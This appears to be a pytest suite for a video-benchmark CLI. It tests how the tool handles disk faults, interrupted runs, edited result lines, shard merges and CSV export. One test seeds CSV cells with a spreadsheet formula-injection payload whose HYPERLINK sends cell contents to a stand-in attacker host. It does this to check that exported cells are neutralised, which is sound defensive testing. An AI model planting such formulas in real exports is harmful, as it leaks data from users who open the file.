"""A run directory that never lies (issue 21), through `vbench-async run --backend openai` against a real HTTP server
on 127.0.0.1 (no engine, so each case costs seconds):

- environment faults are not sample failures: a full disk or a read-only / impossible cache directory stops the run
  with one message and records nothing; freed, the same command scores every sample (tmpfs mounts where the test
  runs as root; the not-a-directory case everywhere). A full disk under the results directory: a message, no
  traceback, and an exact resume.
- ids stay unique after de-duplication; summaries, the table, the site and its CSV count exactly the annotation
  file's current samples; an interrupted run is never complete.
- one writer per run directory, whatever the config.
- hand-edited result lines are reported with file and line and counted nowhere, by `run`, `leaderboard`,
  `compare` and `judge` alike.
- CSV exports neutralise cells a spreadsheet would run as formulas.
"""

from __future__ import annotations

import contextlib
import csv
import json
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any, Iterator

import pytest
from conftest import REPO, run_cli, wait_for_site
from support.fault_server import FaultServer, openai_args, slow_run, wait_until
from support.hostile import _good, _video, write_data_map

from vbench_async.results.lines import read_lines

BENCH = "mmvu"


# ----------------------------------------------------------------------------------------------- helpers


def _suite(folder: Path, records: list[Any], videos: int = 1, name: str = "records.jsonl") -> Path:
    """An annotation file of `records` (dicts, or raw lines for JSONL), over `videos` distinct videos."""
    for i in range(videos):
        _video(folder / "videos" / f"v{i}.mp4", seed=i, textured=True)
    lines = [r if isinstance(r, str) else json.dumps(r) for r in records]
    (folder / name).write_text("\n".join(lines) + "\n" if name.endswith(".jsonl") else json.dumps(records))
    return write_data_map(folder, name)


def _rec(pid: str, video: int = 0, **kw: Any) -> dict[str, Any]:
    return _good(pid, path=f"v{video}.mp4", **kw)


def _run(data_map: Path, out: Path, cache: Path, url: str, *extra: str) -> subprocess.CompletedProcess:
    return run_cli(*openai_args(data_map, out, cache, url, *extra), timeout=300)


def _summary(out: Path) -> dict[str, Any]:
    return json.loads((out / "summary.json").read_text())["benchmarks"][BENCH]


def _result_file(out: Path) -> Path:
    (path,) = (out / "results").glob("*.jsonl")
    return path


def _csv(site: Path, name: str) -> list[dict[str, str]]:
    with open(site / "data" / f"{name}.csv", newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _board_row(site: Path) -> dict[str, str]:
    """The benchmark's row of the site's leaderboard CSV."""
    (row,) = [r for r in _csv(site, "leaderboard") if r["kind"] == "benchmark" and r["column"] == BENCH]
    return row


def _recorded(out: Path) -> dict[str, dict]:
    return {sid: r for f in (out / "results").glob("*.jsonl") for sid, r in read_lines(f).items()}


@contextlib.contextmanager
def _tmpfs(path: Path, size: str, *options: str) -> Iterator[Path]:
    """A real tmpfs of `size` at `path` (root only; the test is skipped elsewhere)."""
    path.mkdir(parents=True, exist_ok=True)
    opts = ",".join((f"size={size}", *options))
    if subprocess.run(["mount", "-t", "tmpfs", "-o", opts, "tmpfs", str(path)], capture_output=True).returncode:
        pytest.skip("cannot mount a tmpfs here (needs root)")
    try:
        yield path
    finally:
        subprocess.run(["umount", "-l", str(path)], check=False)


def _fill(folder: Path, leave_bytes: int) -> Path:
    """A file that fills `folder`'s file system but for about `leave_bytes`."""
    import os

    st = os.statvfs(folder)
    filler = folder / "filler.bin"
    with open(filler, "wb") as fh:
        fh.truncate(0)
        left = st.f_bavail * st.f_frsize - leave_bytes
        block = b"\0" * (1 << 20)
        while left > 0:
            fh.write(block[: min(left, len(block))])
            left -= len(block)
        fh.flush()
    return filler


# ----------------------------------------------------------------------------------------------- environment faults


def test_a_full_disk_under_the_frame_cache_stops_the_run_and_records_nothing(tmp_path):
    records = [_rec(f"s{v}-{q}", video=v) for v in range(3) for q in range(2)]  # 6 questions on 3 videos
    data_map = _suite(tmp_path / "data", records, videos=3)
    with FaultServer() as server, _tmpfs(tmp_path / "cache", "20m") as cache:
        filler = _fill(cache, leave_bytes=8 << 10)  # room for the cache's folders, not for one entry
        first = _run(data_map, tmp_path / "out", cache, server.url)
        assert first.returncode == 2, first.stderr[-3000:]
        assert "Traceback" not in first.stderr
        assert "No space left on device" in first.stderr and "frame cache" in first.stderr, first.stderr[-2000:]
        assert _recorded(tmp_path / "out") == {}, "a full disk was recorded against samples"
        assert not list((cache / "vbf1" / "failures").glob("*.json")), "a full disk is not the video's fault"
        filler.unlink()  # space freed: the same command scores every sample
        second = _run(data_map, tmp_path / "out", cache, server.url)
    assert second.returncode == 0, second.stderr[-3000:]
    b = _summary(tmp_path / "out")
    assert (b["n_total"], b["n_failed"], b["complete"], b["score"]) == (6, 0, True, 1.0), b


@pytest.mark.parametrize("how", ["read_only", pytest.param("not_a_directory", marks=pytest.mark.slow)])
def test_an_unwritable_cache_directory_stops_the_run_and_a_writable_one_then_scores_every_sample(tmp_path, how):
    data_map = _suite(tmp_path / "data", [_rec(f"q{i}", video=i % 2) for i in range(4)], videos=2)
    with FaultServer() as server, contextlib.ExitStack() as stack:
        if how == "read_only":
            bad_cache = stack.enter_context(_tmpfs(tmp_path / "ro-cache", "5m", "ro"))
            expected = "Read-only file system"
        else:
            (tmp_path / "a-file").write_text("not a folder")
            bad_cache, expected = tmp_path / "a-file" / "cache", "Not a directory"
        first = _run(data_map, tmp_path / "out", bad_cache, server.url)
        assert first.returncode == 2, first.stderr[-3000:]
        assert expected in first.stderr and "Traceback" not in first.stderr, first.stderr[-3000:]
        assert _recorded(tmp_path / "out") == {}, "an environment fault was recorded against samples"
        second = _run(data_map, tmp_path / "out", tmp_path / "cache", server.url)
    assert second.returncode == 0, second.stderr[-3000:]
    b = _summary(tmp_path / "out")
    assert (b["n_total"], b["n_failed"], b["complete"], b["score"]) == (4, 0, True, 1.0), b


def test_a_full_disk_under_the_results_stops_with_a_message_and_the_resume_is_exact(tmp_path):
    data_map = _suite(tmp_path / "data", [_rec(f"q{i}") for i in range(12)])
    with FaultServer() as server, _tmpfs(tmp_path / "out", "2m") as out:
        (out / "results").mkdir()
        filler = _fill(out, leave_bytes=12 << 10)  # room for a few result lines
        first = _run(data_map, out, tmp_path / "cache", server.url, "--concurrency", "1")
        assert first.returncode == 2, first.stderr[-3000:]
        assert "Traceback" not in first.stderr, first.stderr[-3000:]
        assert "No space left on device" in first.stderr and "results file" in first.stderr, first.stderr[-2000:]
        kept = _result_file(out).read_bytes()
        assert kept.endswith(b"\n") or kept == b""  # cut back to its last whole line
        filler.unlink()
        second = _run(data_map, out, tmp_path / "cache", server.url)
        assert second.returncode == 0, second.stderr[-3000:]
        lines = _result_file(out).read_bytes()
        ids = [json.loads(line)["sample_id"] for line in lines.splitlines()]
        b = _summary(out)
    assert lines.startswith(kept) and sorted(ids) == sorted(f"q{i}" for i in range(12)), ids  # one line each
    assert (b["n_total"], b["complete"], b["score"]) == (12, True, 1.0)


# ---------------------------------------------------------------------------------------- exactly the current samples


def test_deduplicated_ids_never_collide(tmp_path):
    data_map = _suite(tmp_path / "data", [_rec("1"), _rec("1"), _rec("1#2"), _rec("2")])
    with FaultServer() as server:
        proc = _run(data_map, tmp_path / "out", tmp_path / "cache", server.url)
    assert proc.returncode == 0, proc.stderr[-3000:]
    ids = [json.loads(line)["sample_id"] for line in _result_file(tmp_path / "out").read_text().splitlines()]
    assert len(ids) == len(set(ids)) == 4, ids
    b = _summary(tmp_path / "out")
    assert (b["n_total"], b["n_expected"], b["complete"]) == (4, 4, True), b


def test_lines_of_records_no_longer_in_the_file_count_nowhere_and_an_interrupted_run_is_never_complete(tmp_path):
    data = tmp_path / "data"
    good = [json.dumps(_rec(f"j{i}")) for i in range(4)]
    data_map = _suite(data, good + ['{"problem_id": "j9", "problem": "torn'])  # a torn fifth line: record "#4"
    out, site = tmp_path / "out", tmp_path / "out" / "leaderboard"
    with FaultServer() as server:
        args = openai_args(data_map, out, tmp_path / "cache", server.url)
        args.remove("--no-site")
        first = run_cli(*args, timeout=300)
        assert first.returncode == 1, first.stderr[-3000:]  # the torn record is a recorded failure
        wait_for_site(out)
        assert "#4" in read_lines(_result_file(out))
        # The record is repaired (it becomes "j9"), and its answer takes long: Ctrl-C while it is in flight.
        fixed = [_rec(f"j{i}") for i in range(4)] + [_rec("j9", problem="FAULT=hang#9 Which colour is the square?")]
        (data / "records.jsonl").write_text("".join(json.dumps(r) + "\n" for r in fixed))
        server.hang_s = 30.0
        with open(tmp_path / "second.log", "w") as log:
            second = subprocess.Popen([sys.executable, "-m", "vbench_async", *args], cwd=REPO, stdout=log,
                                      stderr=subprocess.STDOUT)
            deadline = time.monotonic() + 120
            while not server.attempts["9"] and time.monotonic() < deadline and second.poll() is None:
                time.sleep(0.05)
            second.send_signal(signal.SIGINT)
            second.wait(timeout=60)
        assert second.returncode == 130, (tmp_path / "second.log").read_text()[-3000:]
        b = _summary(out)
        assert b["complete"] is False and b["n_total"] == 4 and b.get("stale_ids") == ["#4"], b
        assert _board_row(site)["complete"] == "False", _board_row(site)
        server.hang_s = 0.0
        third = run_cli(*args, timeout=300)  # the same command finishes it
    assert third.returncode == 0, third.stderr[-3000:]
    wait_for_site(out)
    b = _summary(out)
    # j9's line is written now: it replaces the repaired record's stale "#4" failure (one line per record)
    assert (b["n_total"], b["n_failed"], b["score"], b["complete"], b.get("n_stale")) == (5, 0, 1.0, True, None), b
    assert "#4" not in read_lines(_result_file(out))
    row = _board_row(site)
    assert (row["complete"], row["n_total"], float(row["score"])) == ("True", "5", 1.0), row
    assert sorted(r["sample_id"] for r in _csv(site, f"{BENCH}.samples")) == ["j0", "j1", "j2", "j3", "j9"]


# ----------------------------------------------------------------------------------------------- one writer


def test_a_second_run_with_another_config_into_the_same_output_dir_is_refused_naming_the_first(tmp_path):
    with slow_run(tmp_path, 6) as (args, first, out):
        wait_until(lambda: any((out / "results").glob("*.jsonl")), first)
        second = run_cli(*args, "--max-tokens", "64", timeout=300)  # another config: another result file
        first.wait(timeout=300)
    assert second.returncode == 2, second.stderr[-3000:]
    assert "being written by another process" in second.stderr and f"pid {first.pid}" in second.stderr
    assert "Traceback" not in second.stderr
    assert first.returncode == 0, (tmp_path / "first.log").read_text()[-3000:]
    assert len(list((out / "results").glob("*.jsonl"))) == 1  # the refused config wrote nothing


# ----------------------------------------------------------------------------------------------- hand-edited lines


def test_hand_edited_result_lines_are_reported_and_counted_nowhere(tmp_path):
    data_map = _suite(tmp_path / "data", [_rec(f"q{i}") for i in range(3)])
    out = tmp_path / "out"
    with FaultServer() as server:
        assert _run(data_map, out, tmp_path / "cache", server.url).returncode == 0
        path = _result_file(out)
        good = [json.loads(line) for line in path.read_text().splitlines()]
        q0 = good[0]
        hostile = [
            {**q0, "error": "boom"}, {**q0, "fields": [1, 2]}, {**q0, "details": "x"},
            {**q0, "score": 5.0}, {**q0, "sample_id": "foreign", "config_hash": "0123456789ab"},
        ]
        text = path.read_text() + "".join(json.dumps(r) + "\n" for r in hostile)
        text += json.dumps({**q0, "score": 0.5}).replace("0.5", "Infinity") + "\n"  # not JSON, but Python reads it
        path.write_text(text)
        n_lines = len(text.splitlines())

        resumed = _run(data_map, out, tmp_path / "cache", server.url)  # a resuming run reads them too
        site = tmp_path / "site"
        board = run_cli("leaderboard", str(out), "-o", str(site), timeout=300)
        compare = run_cli("compare", str(out), str(out), "--json", timeout=300)
        judge = run_cli("judge", str(out), "--judge-model", "j", "--backend", "openai", "--base-url", server.url,
                        timeout=300)
    for name, proc in (("run", resumed), ("leaderboard", board), ("compare", compare), ("judge", judge)):
        assert proc.returncode == 0, (name, proc.stderr[-3000:])
        assert "Traceback" not in proc.stderr, (name, proc.stderr[-3000:])
    assert f"{path.name}" in resumed.stderr and "line 4" in resumed.stderr, resumed.stderr[-3000:]
    b = _summary(out)
    assert (b["n_total"], b["score"], b["n_bad_lines"]) == (3, 1.0, n_lines - 3), b
    row = _board_row(site)
    assert (row["n_total"], float(row["score"])) == ("3", 1.0), row
    assert "invalid lines left out" in row["markers"], row
    assert json.loads(compare.stdout)["benchmarks"][BENCH]["n"] == 3


def test_a_damaged_line_makes_judge_and_its_site_agree_the_run_is_partial(tmp_path):
    data_map = _suite(tmp_path / "data", [_rec(f"q{i}") for i in range(3)])
    out = tmp_path / "out"
    with FaultServer() as server:
        args = openai_args(data_map, out, tmp_path / "cache", server.url)
        args.remove("--no-site")
        assert run_cli(*args, timeout=300).returncode == 0
        path = _result_file(out)
        lines = path.read_text().splitlines(keepends=True)
        lines[1] = lines[1][: len(lines[1]) // 2] + "\n"  # torn in the middle of the file
        path.write_text("".join(lines))
        judge = run_cli("judge", str(out), "--judge-model", "j", "--backend", "openai", "--base-url", server.url,
                        timeout=300)
    assert judge.returncode == 0 and "Traceback" not in judge.stderr, judge.stderr[-3000:]
    assert "line 2" in judge.stderr, judge.stderr[-3000:]
    assert _summary(out)["complete"] is False
    assert _board_row(out / "leaderboard")["complete"] == "False"


# ----------------------------------------------------------------------------------------------- CSV exports


def test_csv_exports_neutralise_cells_a_spreadsheet_would_run(tmp_path):
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    data_map = _suite(tmp_path / "data", [_rec("=1+2", problem="@SUM(A1) which colour?"), _rec("-q", problem="+x")])
    with FaultServer(answer=formula) as server:
        args = openai_args(data_map, tmp_path / "out", tmp_path / "cache", server.url)
        args.remove("--no-site")
        proc = run_cli(*args, timeout=300)
    assert proc.returncode in (0, 1), proc.stderr[-3000:]
    wait_for_site(tmp_path / "out")  # written by the background process the run leaves
    site = tmp_path / "out" / "leaderboard"
    cells = [c for name in ("leaderboard", f"{BENCH}.samples", f"{BENCH}.categories")
             for row in _csv(site, name) for c in row.values() if c]
    assert cells, "no CSV cells"
    dangerous = [c for c in cells if c[0] in "=+-@\t\r"]
    assert not dangerous, dangerous
    assert any(c == "'" + formula for c in cells), "the output is kept, as text"


def test_merge_leaves_out_a_line_of_another_config_pasted_into_a_shard_file(tmp_path):
    data_map = _suite(tmp_path / "data", [_rec(f"q{i}") for i in range(4)])
    out = tmp_path / "out"
    with FaultServer() as server:
        args = openai_args(data_map, out, tmp_path / "cache", server.url)
        assert run_cli(*args, "--shard", "0/2", timeout=300).returncode == 0
        (shard0,) = (out / "results").glob("*.shard-0-of-2.jsonl")
        first = json.loads(shard0.read_text().splitlines()[0])
        with open(shard0, "a") as fh:  # the same sample under another config, failed: it must not replace the result
            fh.write(json.dumps({**first, "config_hash": "0123456789ab", "score": 0.0}) + "\n")
        last = run_cli(*args, "--shard", "1/2", timeout=300)  # the last shard merges
        merge = run_cli("merge", str(out), timeout=300)
    for proc in (last, merge):
        assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr[-3000:]
    b = _summary(out)
    assert (b["n_total"], b["score"], b["complete"]) == (4, 1.0, True), b
    assert f"{shard0.name}" in last.stderr and "does not match" in last.stderr, last.stderr[-3000:]
